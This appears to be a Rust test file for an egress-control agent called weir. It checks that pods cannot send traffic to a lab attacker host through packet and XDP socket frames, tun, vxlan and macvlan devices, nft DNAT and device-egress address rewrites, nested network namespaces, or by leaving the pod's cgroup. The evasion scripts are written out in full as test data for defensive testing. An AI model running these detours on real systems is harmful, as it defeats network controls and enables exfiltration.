//! What no socket hook can stop, and the program at the host's end of a pod's veth does: frames of packet
//! and XDP sockets, packets of tun devices and tunnels, and packets whose address the pod rewrites.
//!
//! Every act is tried with an agent and without one, where it must get out.

use std::net::IpAddr;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use weir_tests::agent::{Agent, AgentSpec};
use weir_tests::exec::{self, Output};
use weir_tests::lab::{Lab, addresses};
use weir_tests::node::{Container, ContainerSpec, Image, Node, Options, Pod, PodSpec};
use weir_tests::profile::Profile;
use weir_tests::programs::{self, Program};
use weir_tests::skip::{self, Skip};

const LIMIT: Duration = Duration::from_secs(30);
/// Where the attacker waits.
const PORT: u16 = 8443;
/// An address of the pods' network that no pod has: the node masquerades it too.
const BORROWED: &str = "10.88.200.200";

/// A pod with one container that waits for commands, held by an agent or not.
struct World {
    job: Container,
    shell: &'static str,
    pod: Pod,
    agent: Option<Agent>,
    node: Node,
    lab: Lab,
}

/// Whether an agent runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Weir {
    On,
    Off,
}

/// What the container may do.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Rights {
    /// What containerd gives: `CAP_NET_RAW` is among it. And `CAP_IPC_LOCK`: in Linux 5.10 the memory of an XDP socket counts
    /// against what root may lock, with all BPF maps of the machine.
    Default,
    /// Everything, and the node's programs below `/usr`.
    Privileged,
}

impl World {
    fn new(weir: Weir, rights: Rights) -> Result<Self> {
        let lab = Lab::new()?;
        lab.attacker.listen(PORT)?;
        let image = Image::busybox("job")
            .program(Program::Frames.path()?, "/bin/frames")
            .program(Program::Probe.path()?, "/bin/probe")
            .program("/usr/bin/curl", "/bin/curl");
        let barrier = Image::busybox("weir-initc")
            .program(programs::target_folder()?.join("weir-initc"), "/bin/weir-initc");
        let node = Node::start(&lab, &Options::images(&[&image, &barrier]))?;
        // Where security modules are asked, no other pod gets such a socket.
        let profile = Profile::deny_all()
            .domains_at(&["files.example.com"], &["80"])
            .spec("  families: [packet, xdp]");
        let agent = match weir {
            Weir::On => Some(AgentSpec::default().namespace("ci", &profile.text()).start(&node)?),
            Weir::Off => None,
        };
        let privileged = rights == Rights::Privileged;
        let pod = node.run_pod(PodSpec { privileged, ..PodSpec::new("job") })?;
        if weir == Weir::On {
            let barrier = ContainerSpec::barrier(&barrier, &pod.spec().uid, LIMIT);
            let barrier = pod.start(barrier)?;
            ensure!(barrier.wait(LIMIT)? == 0, "the barrier: {}", barrier.logs()?);
        }
        let mut spec = ContainerSpec::new("build", &image)
            .command(&["/bin/sleep", "86400"])
            .env("PATH", "/usr/bin:/usr/sbin:/bin");
        if privileged {
            spec = spec.privileged();
            for folder in ["/usr", "/lib", "/lib64"] {
                spec.mounts.push((folder.into(), folder.to_owned(), true));
            }
        } else {
            spec.capabilities.push("IPC_LOCK".to_owned());
        }
        let job = pod.start(spec)?;
        // Busybox's shell takes its own `ip` ahead of any other.
        let shell = if privileged { "/usr/bin/dash" } else { "/bin/sh" };
        let world = Self { job, shell, pod, agent, node, lab };
        // The router's link address is known from here on.
        world.run("curl -4 -sS -m 10 http://files.example.com/")?.expect_code(0)?;
        Ok(world)
    }

    fn run(&self, script: &str) -> Result<Output> {
        self.job.exec(&[self.shell, "-c", script])
    }

    fn address(&self, wanted: fn(&IpAddr) -> bool) -> Result<IpAddr> {
        self.pod.ips().iter().copied().find(wanted).context("the pod lacks an address")
    }
}

/// A frame of a packet socket or of an XDP socket, and whether it is one for the attacker.
const FRAMES: [(&str, bool); 18] = [
    ("udp4", true),
    ("bypass-udp4", true),
    ("udp6", true),
    ("bypass-udp6", true),
    ("xdp-udp4", true),
    ("xdp-udp6", true),
    ("xdp-vlan", false),
    ("xdp-experimental", false),
    ("options", true),
    ("pppoe", false),
    ("vlan", false),
    ("bypass-vlan", false),
    ("vlan-zero", true),
    ("qinq", false),
    ("experimental", false),
    ("mpls", false),
    ("llc", false),
    ("long-arp", false),
];

/// Sends each frame, and counts what came out of the veth into the node's bridge.
fn frames(weir: Weir) -> Result<()> {
    let world = World::new(weir, Rights::Default)?;
    let watch = world.lab.watch(world.lab.attacker.host())?;
    for (act, is_for_attacker) in FRAMES {
        let is_v6 = act.ends_with('6');
        let source = world.address(if is_v6 { IpAddr::is_ipv6 } else { IpAddr::is_ipv4 })?;
        let [v4, v6] = addresses::ATTACKER.both();
        let target = if is_v6 { v6 } else { v4 };
        let mut counter = world.node.command(Program::Frames.path()?);
        counter.args(["count", "cni0"]);
        let counter = exec::spawn(counter)?;
        counter.wait_for_line(LIMIT, |line| line == "ready")?;
        let sent = world.run(&format!("frames send {act} eth0 {source} {target} {PORT}"))?;
        sent.expect_code(0).with_context(|| format!("sending {act}"))?;
        let said = counter.finish(LIMIT)?.expect_code(0).context("no mark")?.stdout;
        let arrived = said.lines().last().unwrap_or_default() != "0";
        ensure!(arrived == (weir == Weir::Off), "{act} with weir {weir:?}: {said}");
        let seen = watch.take()?;
        let reached = weir == Weir::Off && is_for_attacker;
        ensure!((seen.udp.packets > 0) == reached, "{act} with weir {weir:?}: {seen:?}");
    }
    let Some(agent) = &world.agent else { return Ok(()) };
    for reason in ["raw_socket", "direct_ip_no_dns"] {
        let events = agent.events()?;
        let found = events.iter().any(|event| {
            event.reason() == reason
                && event.text("/attribution") == "none"
                && event.comm().is_empty()
        });
        ensure!(found, "no record of {reason} in {events:?}");
    }
    Ok(())
}

#[test]
fn no_frame_of_a_packet_socket_leaves_the_pod() -> Result<()> {
    frames(Weir::On)
}

#[test]
fn without_weir_every_frame_leaves_the_pod() -> Result<()> {
    frames(Weir::Off)
}

/// Leaves the pod's cgroup, which a privileged container may.
const LEAVE: &str =
    "mkdir -p /sys/fs/cgroup/elsewhere && echo 0 > /sys/fs/cgroup/elsewhere/cgroup.procs";

/// The act that some kernels have no hook for.
const AT_DEVICE: &str = "another address at the device";

/// What a privileged job tries; each by a script that undoes what it made.
fn detours() -> Vec<(&'static str, String)> {
    let (attacker, files) = (addresses::ATTACKER.v4, addresses::WEB[0].v4);
    let get = "curl -4 -sS -m 2 http://files.example.com/";
    let nat = |hook: &str| {
        format!(
            "nft 'table ip detour {{ chain to {{ type nat hook {hook} priority -190;
               ip daddr {files} tcp dport 80 dnat to {attacker}:{PORT}; }}; }}'"
        )
    };
    let undo = "nft delete table ip detour";
    // A network of its own behind the pod's.
    let inner = "ip netns add inner
        ip link add outside type veth peer name inside netns inner
        ip addr add 192.168.77.1/24 dev outside; ip link set outside up
        ip -n inner addr add 192.168.77.2/24 dev inside; ip -n inner link set inside up
        ip -n inner route add default via 192.168.77.1
        echo 1 > /proc/sys/net/ipv4/ip_forward
        nft 'table ip inner { chain leave { type nat hook postrouting priority 100;
             ip saddr 192.168.77.0/24 oifname eth0 masquerade; }; }'";
    let inner_end = "ip link del outside; ip netns del inner; nft delete table ip inner";
    let detours = [
        (
            "tun",
            format!(
                "ip tuntap add dev t0 mode tun; ip link set t0 up; ip route add {BORROWED}/32 dev t0
                 echo 1 > /proc/sys/net/ipv4/ip_forward
                 frames tun t0 {BORROWED} {attacker} {PORT}; ip link del t0"
            ),
        ),
        (
            "vxlan",
            format!(
                "ip link add vx type vxlan id 7 remote {attacker} dstport 4789 dev eth0
                 ip addr add 192.168.78.1/24 dev vx; ip link set vx up
                 ping -q -c 1 -W 1 192.168.78.2; ip link del vx"
            ),
        ),
        (
            "macvlan",
            format!(
                "{LEAVE}; ip link add mv link eth0 type macvlan mode bridge
                 ip addr add {BORROWED}/16 dev mv; ip link set mv up
                 ip route add {attacker} via 10.88.0.1 dev mv
                 probe udp-sendto {attacker} {PORT}; ip link del mv"
            ),
        ),
        ("output", format!("{}; {get}; {undo}", nat("output"))),
        ("output, elsewhere", format!("{LEAVE}; {}; {get}; {undo}", nat("output"))),
        (
            "inner network",
            format!(
                "{LEAVE}; {inner}
                 ip netns exec inner probe udp-sendto {attacker} {PORT}; {inner_end}"
            ),
        ),
        (
            "inner network with another address",
            format!(
                "{inner}; {}
                 ip netns exec inner curl -sS -m 2 http://{files}/; {undo}; {inner_end}",
                nat("prerouting")
            ),
        ),
        (
            AT_DEVICE,
            format!(
                "nft 'table netdev detour {{ chain leave {{ type filter hook egress device eth0 priority 0;
                   ip daddr {files} ip daddr set {attacker}; }}; }}'
                 {get}; nft delete table netdev detour"
            ),
        ),
    ];
    detours.into()
}

fn detoured(weir: Weir) -> Result<()> {
    let world = World::new(weir, Rights::Privileged)?;
    let watch = world.lab.watch(world.lab.attacker.host())?;
    for (name, script) in detours() {
        let said = world.run(&script)?;
        let seen = watch.take()?;
        if name == AT_DEVICE && said.stderr.contains("Operation not supported") {
            skip::record(&format!("wire: {name}"), Skip::NoEgressHook)?;
            continue;
        }
        let expected = weir == Weir::On;
        ensure!(seen.is_empty() == expected, "{name}: {seen:?}\n{}", said.describe());
        // What was made is gone again: the next act begins where this one did.
        let get = world.run("curl -4 -sS -m 5 http://files.example.com/")?;
        ensure!(get.code == 0, "after {name}: {}\n{}", get.describe(), said.describe());
    }
    Ok(())
}

#[test]
fn no_detour_of_a_privileged_job_leads_out() -> Result<()> {
    detoured(Weir::On)
}

#[test]
fn without_weir_every_detour_leads_out() -> Result<()> {
    detoured(Weir::Off)
}
